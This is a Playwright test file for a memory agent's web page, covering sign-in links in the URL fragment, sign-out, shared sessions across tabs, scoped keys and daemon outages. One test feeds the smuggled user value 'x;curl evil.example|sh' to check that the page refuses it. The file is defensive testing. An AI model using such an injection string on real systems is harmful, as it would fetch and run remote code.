"""Test sign-in links, sign-out, sessions of two tabs, and requests made while the daemon is stopped."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from memory_agent import MemoryClient
from relay import ALL_SCOPES, Scope, create_key
from tests.end_to_end.conftest import DaemonProcess
from tests.page.browsing import Tab, publish, ticket
from tests.page.conftest import Filled, OpenTab
from tests.page.stranger import another_program

REFUSED = ("ERR_", "Failed to load resource")
SECRET = "The vault is behind the bookshelf"


@pytest.fixture(scope="module")
def remembered(filled_daemon: Filled) -> Filled:
    """A daemon that stores one memory of sam's."""
    with MemoryClient("sam", data_dir=filled_daemon.data_dir) as client:
        client.remember(SECRET)
    return filled_daemon


@pytest.fixture
def sam(remembered: Filled, open_tab: OpenTab) -> Tab:
    return open_tab(remembered.data_dir, "sam")


def another(tab: Tab, address: str = "") -> Tab:
    """Open a second tab of the same browser."""
    other = Tab(tab.page.context.new_page(), tab.url)
    other.page.goto(f"{tab.url}/page/{address}")
    return other


def paste(tab: Tab, token: str, user: str = "") -> None:
    """Open an address with a token in a tab that already shows the page; only the fragment changes."""
    tab.evaluate("hash => { location.hash = hash; }", f"token={token}" + (f"&user={user}" if user else ""))


def dialog(tab: Tab) -> str:
    tab.page.get_by_role("dialog", name="Sign in").wait_for()
    return tab.text("dialog")


def shown(tab: Tab) -> None:
    """Wait until the tab shows sam's memory without a sign-in form."""
    expect(tab.page.locator("dialog")).to_have_count(0)
    expect(tab.page.locator("main")).to_contain_text(SECRET)


def test_a_link_opened_in_a_tab_that_shows_the_page_signs_in_and_keeps_the_view(remembered: Filled, sam: Tab) -> None:
    sam.expected = ("401",)
    sam.show("search", q="vault")
    sam.page.get_by_label("What to recall").fill("typed")
    sam.page.context.clear_cookies()
    sam.press("Enter")
    assert "What you typed on the page is kept" in dialog(sam)
    given = ticket(remembered.data_dir)
    former = sam.evaluate("() => navigation.currentEntry.key")
    paste(sam, given, "sam")
    shown(sam)
    assert sam.page.url == f"{sam.url}/page/#/search?q=typed"
    assert sam.evaluate("() => navigation.entries().at(-2).key") == former  # one entry more
    sam.page.go_back()
    assert given not in sam.page.url
    sam.page.go_forward()
    assert given not in sam.page.url
    paste(sam, given)  # used
    sam.settle()
    shown(sam)
    assert given not in sam.page.url


def test_a_refused_link_says_why_and_sets_no_user(remembered: Filled, sam: Tab) -> None:
    sam.expected = ("401",)
    sam.page.get_by_role("button", name="Sign out").click()
    dialog(sam)
    for user in ("mallory", "x;curl evil.example|sh"):
        paste(sam, "bad", user)
        sam.settle()
        sam.page.get_by_text("The link was used before, or has expired.").wait_for()
        assert sam.evaluate("() => localStorage.getItem('memory-agent.user')") == "sam"
    paste(sam, ticket(remembered.data_dir), "x;curl evil.example|sh")
    shown(sam)
    expect(sam.page.get_by_label("User")).to_have_value("sam")


def test_after_signing_out_no_memory_is_in_the_document_or_the_address(sam: Tab) -> None:
    sam.show("search", q="vault")
    shown(sam)
    sam.page.get_by_role("button", name="Sign out").click()
    assert "What you typed" not in dialog(sam)
    assert SECRET not in sam.evaluate("() => document.documentElement.outerHTML")
    assert sam.page.url == f"{sam.url}/page/#/timeline"


def test_two_tabs_share_the_session_and_the_theme(remembered: Filled, sam: Tab) -> None:
    other = another(sam)  # without a ticket
    shown(other)
    for tab in (other, sam):
        tab.show("live")
        tab.page.get_by_text("Following").wait_for()
        sam.page.bring_to_front()  # a hidden tab renders once a second
    note = {"user_id": "sam", "event_type": "note.taken", "payload": {"text": "seen in both"}}
    publish(remembered.data_dir, note)
    for tab in (sam, other):
        tab.page.get_by_text("seen in both").wait_for()
    sam.press("t")
    theme = str(sam.page.locator("html").get_attribute("data-theme"))
    expect(other.page.locator("html")).to_have_attribute("data-theme", theme)
    other.show("timeline")
    shown(other)
    sam.page.get_by_role("button", name="Sign out").click()
    for tab in (sam, other):
        dialog(tab)
        assert SECRET not in tab.text()
    paste(other, ticket(remembered.data_dir))
    for tab in (sam, other):
        shown(tab)
    other.check()


def test_a_link_with_another_key_says_whose_memory_is_shown(remembered: Filled, sam: Tab) -> None:
    other = another(sam)
    shown(other)
    assert sam.page.get_by_role("alert").count() == 0
    token = create_key(remembered.data_dir, "mallory", "mallory", ALL_SCOPES).token
    for tab in (sam, other):
        if tab is sam:
            paste(tab, token)
        warning = tab.page.get_by_role("alert")
        expect(warning).to_contain_text("another key. This is the memory of mallory.")
        warning.get_by_role("button").click()
        expect(warning).to_have_count(0)
        assert SECRET not in tab.text()
    third = another(sam, f"#token={ticket(remembered.data_dir)}&user=sam")
    expect(third.page.get_by_role("alert")).to_contain_text("This is the memory of sam.")


def test_a_key_that_may_do_less_shows_nothing_that_the_former_key_read(remembered: Filled, sam: Tab) -> None:
    sam.show("quarantine")
    rows = sam.page.locator("[id^=entry-]")
    expect(rows.first).to_be_visible()
    paste(sam, create_key(remembered.data_dir, "reader", "sam", frozenset({Scope.RECALL})).token)
    expect(sam.page.get_by_role("alert").first).to_contain_text("another key")
    expect(rows).to_have_count(0)


def test_a_write_whose_answer_was_lost_is_said_to_be_uncertain(sam: Tab) -> None:
    sam.expected = REFUSED
    sam.page.route("**/v1/forget", lambda route: route.abort())
    sam.page.get_by_role("option").first.click()
    sam.page.get_by_role("button", name="Forget …").click()
    asked = sam.page.get_by_role("dialog")
    asked.get_by_role("button", name="Forget", exact=True).click()
    expect(asked.get_by_role("alert")).to_contain_text("It may have carried this out: look before you repeat it.")
    sam.press("Escape")
    shown(sam)
    sam.page.unroute("**/v1/forget")
    expect(sam.page.locator(".banner")).to_have_count(0)


def test_another_program_on_the_daemons_port_gets_no_key_and_is_not_taken_for_it(
    mortal: DaemonProcess, open_tab: OpenTab
) -> None:
    with MemoryClient("sam", data_dir=mortal.data_dir) as client:
        client.remember(SECRET)
    tab = open_tab(mortal.data_dir, "sam")
    tab.expected = REFUSED
    mortal.kill()
    tab.evaluate("() => { location.hash = '#/search?q=vault'; }")
    banner = tab.page.locator(".banner")
    banner.wait_for()
    with another_program(b"{}", urlsplit(tab.url).port or 0) as stranger:
        while len(stranger.seen) < 3:
            banner.get_by_role("button").click()
            tab.page.wait_for_timeout(20)
        expect(banner).to_contain_text("does not answer")
    assert set(stranger.seen) == {("/", "", "")}
    mortal.start()
    tab.evaluate("() => [...document.querySelectorAll('.banner button')].forEach(button => button.click())")
    expect(banner).to_have_count(0)
    shown(tab)
